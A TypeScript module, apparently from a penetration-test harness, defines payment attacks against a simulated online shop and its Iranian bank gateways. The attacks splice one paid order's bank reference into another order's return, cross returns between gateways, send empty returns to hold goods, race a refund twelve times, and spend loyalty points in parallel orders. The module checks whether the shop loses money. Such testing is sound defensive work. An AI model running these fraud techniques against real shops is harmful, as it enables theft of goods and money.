import { setTimeout } from 'node:timers/promises'
import { ADDED_PATHS, fillPath, MANAGE_PATHS } from '@rasteh/contracts/paths'
import { BANKS, type BankName, type Return } from '@rasteh/simulator/banks'
import { type Attack, allHarms, type Harm, type Target } from './attack.ts'
import { type Caller, jsonOf, openCaller } from './caller.ts'
import { ENTRY_POINTS } from './entry-points.ts'
import {
  actAtBank,
  comeBack,
  giveAddress,
  goToBank,
  must,
  orderOf,
  type Placed,
  paymentsOf,
} from './shop/buying.ts'
import { enterAsStaff, makeCustomer } from './shop/people.ts'

const CHEAP_RIAL = 7_040_000
const DEAR_RIAL = 31_900_000
/** As long as a return or a refund waits for the bank before it answers. */
const SETTLED_MS = 1_000

type Standing = { number: number; isPaid: boolean; payableRial: number; takenRial: number; dueRial: number }

/** A shop under attack, and a manager of it who tells what the attack has done. */
type Judged = Target & { manager: Caller }

/** The manager looks at the edge, whichever door is under attack. */
async function withManager(target: Target): Promise<Judged> {
  const manager = await enterAsStaff(
    { ...target, entryPoint: 'edge', port: target.shop.ports.edge },
    'manager',
  )
  return { ...target, manager }
}

/** The state of an order: at the shop, at its bank, and in the list of refunds that managers have to make. */
async function standingOf({ shop, manager }: Judged, placed: Placed): Promise<Standing> {
  const { rows } = await shop.owner.query<{ paid: boolean; payable: number }>(
    'select paid_at is not null as paid, payable_rial as payable from shop.orders where id = $1',
    [placed.orderId],
  )
  const listed = await must(manager.call('GET', `${MANAGE_PATHS.orders}?state=refund-due&q=${placed.number}`))
  const { Orders } = jsonOf<{ Orders: { Id: string; RefundRial: number }[] }>(listed)
  const payment = (await paymentsOf(shop)).find(({ authority }) => authority === placed.authority)
  return {
    number: placed.number,
    isPaid: rows[0]?.paid ?? false,
    payableRial: Number(rows[0]?.payable ?? 0),
    takenRial: payment?.takenRial ?? 0,
    dueRial: Orders.find(({ Id }) => Id === placed.orderId)?.RefundRial ?? 0,
  }
}

/** Money that the shop owes or has given goods for, beyond what the banks took. */
function judge(standings: readonly Standing[]): Harm | null {
  const sum = (value: (one: Standing) => number) => standings.reduce((total, one) => total + value(one), 0)
  const taken = sum(({ takenRial }) => takenRial)
  const owed = sum(({ dueRial }) => dueRial)
  const sold = sum(({ isPaid, payableRial }) => (isPaid ? payableRial : 0))
  if (owed + sold <= taken) return null
  return `the banks took ${taken}, yet goods for ${sold} count as paid and managers are told to give back ${owed}`
}

/** What the second order's bank would bring back had it been paid with the first order's reference. */
async function mixReturns({ shop }: Target, paid: Return, unpaid: Placed): Promise<Return> {
  const forged = await actAtBank(shop, unpaid, 'forged')
  const own = await paymentsOf(shop)
  const mixed = Object.fromEntries(
    Object.entries(forged.fields).map(([name, value]) => {
      const isReference =
        value.length >= 6 && !own.some(({ authority, orderId }) => [authority, orderId].includes(value))
      return [name, isReference && paid.fields[name] ? paid.fields[name] : value]
    }),
  )
  return { ...forged, fields: mixed }
}

/** Pays a cheap order and brings its reference to a dear one's return, before or after its own. */
async function crossReference(target: Judged, gateway: BankName, dearFirst: boolean): Promise<Harm | null> {
  const cheap = await goToBank(target, gateway, CHEAP_RIAL)
  const dear = await goToBank(target, gateway, DEAR_RIAL)
  const paid = await actAtBank(target.shop, cheap, 'pay')
  const mixed = await mixReturns(target, paid, dear)
  const cheapReturn = () => comeBack(cheap, paid)
  if (!dearFirst) await cheapReturn()
  await comeBack(dear, mixed)
  await comeBack(dear, paid)
  if (dearFirst) await cheapReturn()
  await setTimeout(SETTLED_MS)
  const harm = judge([await standingOf(target, cheap), await standingOf(target, dear)])
  return harm && `${gateway}, ${dearFirst ? 'dear order first' : 'own order first'}: ${harm}`
}

async function crossReferences(target: Target): Promise<Harm | null> {
  const judged = await withManager(target)
  const attempts = BANKS.flatMap((gateway) =>
    [true, false].map((first) => crossReference(judged, gateway, first)),
  )
  return allHarms(await Promise.all(attempts))
}

const CROSSED: readonly BankName[] = ['parsian', 'zibal', 'vandar', 'snapppay']

/** Every paid return of one bank is brought to an unpaid order of every other. */
async function crossBanks(target: Target): Promise<Harm | null> {
  const paid: { placed: Placed; back: Return }[] = []
  const unpaid: Placed[] = []
  for (const gateway of CROSSED) {
    const placed = await goToBank(target, gateway, CHEAP_RIAL)
    paid.push({ placed, back: await actAtBank(target.shop, placed, 'pay') })
    unpaid.push(await goToBank(target, gateway, DEAR_RIAL))
  }
  for (const { back } of paid)
    for (const victim of unpaid) {
      await comeBack(victim, back)
      await comeBack(victim, { ...back, method: back.method === 'GET' ? 'POST' : 'GET' })
    }
  for (const { placed, back } of paid) await comeBack(placed, back)
  await setTimeout(SETTLED_MS)
  const judged = await withManager(target)
  const all = [...unpaid, ...paid.map(({ placed }) => placed)]
  return judge(await Promise.all(all.map((placed) => standingOf(judged, placed))))
}

/** Opens the return address with nothing, then tries to give the goods back to others. */
async function returnEmpty(target: Judged, gateway: BankName): Promise<Harm | null> {
  const placed = await goToBank(target, gateway, CHEAP_RIAL)
  await comeBack(placed, { method: 'GET', fields: {} })
  await comeBack(placed, { method: 'POST', fields: { x: '1' } })
  const cancelled = await placed.buyer.call('POST', fillPath(ADDED_PATHS.orderCancel, { id: placed.orderId }))
  if (cancelled.status === 200) return null
  const path = fillPath(MANAGE_PATHS.orderCancel, { id: placed.orderId })
  const closed = await target.manager.call('POST', path, { json: { Reason: 'مشتری پرداخت نکرد' } })
  if (closed.status === 200) return null
  const { rows } = await target.shop.owner.query<{ state: string }>(
    'select state from shop.payment_attempts where id = $1',
    [placed.attemptId],
  )
  return `${gateway}: the attempt is ${rows[0]?.state}, the customer's cancel → ${cancelled.status}, the manager's → ${closed.status}`
}

async function returnsEmpty(target: Target): Promise<Harm | null> {
  const judged = await withManager(target)
  return allHarms(await Promise.all(BANKS.map((gateway) => returnEmpty(judged, gateway))))
}

const PRESSES = 12

/** A manager's refund is pressed many times at once, at the bank and by hand. */
async function pressRefund(target: Target): Promise<Harm | null> {
  const { shop } = target
  const placed = await goToBank(target, 'zarinpal', CHEAP_RIAL)
  await comeBack(placed, await actAtBank(shop, placed, 'pay'))
  const manager = await enterAsStaff(target, 'manager')
  const act = (name: string, json: object) =>
    manager.call('POST', `${fillPath(MANAGE_PATHS.order, { id: placed.orderId })}/${name}`, { json })
  await act('cancel', { Reason: 'کالا آسیب دیده است' })
  const { rows } = await shop.owner.query<{ number: number }>(
    'select number from shop.payment_attempts where id = $1',
    [placed.attemptId],
  )
  const AttemptNumber = rows[0]?.number ?? 0
  const answers = await Promise.all(
    Array.from({ length: PRESSES }, (_, at) =>
      at % 2 === 0
        ? act('refund', { AttemptNumber })
        : act('refunded', { AttemptNumber, Note: 'کارت به کارت' }),
    ),
  )
  await setTimeout(SETTLED_MS)
  const payment = (await paymentsOf(shop)).find(({ authority }) => authority === placed.authority)
  const byHand = answers.filter(({ status }, at) => at % 2 === 1 && status === 200).length
  const byBank = payment?.state === 'reversed' ? 1 : 0
  const events = await shop.owner.query<{ count: number }>(
    `select count(*)::int as count from shop.order_events where order_id = $1 and kind in ('refunded', 'refund-paid')`,
    [placed.orderId],
  )
  const written = events.rows[0]?.count ?? 0
  if (byBank + byHand <= 1 && written <= 1) return null
  return `one payment went back ${byBank} time(s) by the bank and ${byHand} time(s) by hand, written down ${written} time(s)`
}

const POINTS = 500
const PARALLEL = 10

/** One score is spent by many orders that are placed in the same moment from many browsers of one person. */
async function spendScore(target: Target): Promise<Harm | null> {
  const { shop } = target
  const customer = await makeCustomer(shop)
  const addressId = await giveAddress(shop, customer)
  await shop.owner.query(
    "insert into shop.score_moves (customer_id, delta, reason) values ($1, $2, 'attack')",
    [customer.customerId, POINTS],
  )
  const { productId } = await shop.shopFixture.shelve({ priceRial: DEAR_RIAL, stock: 200 })
  const buyer = openCaller(target, { cookies: customer.cookies })
  await must(
    buyer.call('POST', '/api/shop/cart/create', { json: [{ ProductId: productId, Quantity: 1, Action: 1 }] }),
  )
  await must(buyer.call('POST', ADDED_PATHS.score, { json: { IsUseUserScore: true } }))
  const order = await orderOf(buyer, { addressId, shop, gateway: 'zarinpal' })
  const refill = () =>
    buyer.call('POST', '/api/shop/cart/create', { json: [{ ProductId: productId, Quantity: 1, Action: 1 }] })
  await Promise.all(
    Array.from({ length: PARALLEL }, async (_, at) => {
      await buyer.call('POST', '/api/shop/order/place', {
        json: { ...order, Key: `score-key-${at}-${customer.customerId}` },
      })
      await refill()
      await buyer.call('POST', ADDED_PATHS.score, { json: { IsUseUserScore: true } })
      await buyer.call('POST', '/api/shop/order/place', {
        json: { ...order, Key: `again-key-${at}-${customer.customerId}` },
      })
    }),
  )
  const { rows } = await shop.owner.query<{ left: number; spent: number }>(
    `select (select coalesce(sum(delta), 0)::int from shop.score_moves where customer_id = $1) as left,
       (select coalesce(sum(score_spent), 0)::int from shop.orders where customer_id = $1) as spent`,
    [customer.customerId],
  )
  const { left = 0, spent = 0 } = rows[0] ?? {}
  return left < 0 || spent > POINTS ? `of ${POINTS} points ${spent} were spent and ${left} are left` : null
}

const atShop = {
  entryPoints: ENTRY_POINTS,
} as const

/** What people do with money that is not theirs. */
export const paymentAttacks: Attack[] = [
  {
    finding: 'H1',
    title: 'one paid reference settles or is owed twice (eight gateways)',
    ...atShop,
    run: crossReferences,
  },
  {
    finding: 'H2',
    title: 'an empty return holds the goods for ever (eight gateways)',
    ...atShop,
    run: returnsEmpty,
  },
  {
    finding: 'Untried',
    title: 'returns of Parsian, Zibal, Vandar and SnappPay crossed',
    ...atShop,
    run: crossBanks,
  },
  {
    finding: 'Untried',
    title: 'a refund pressed many times, by bank and by hand',
    ...atShop,
    run: pressRefund,
  },
  { finding: 'Untried', title: 'a score spent by many orders at once', ...atShop, run: spendScore },
]
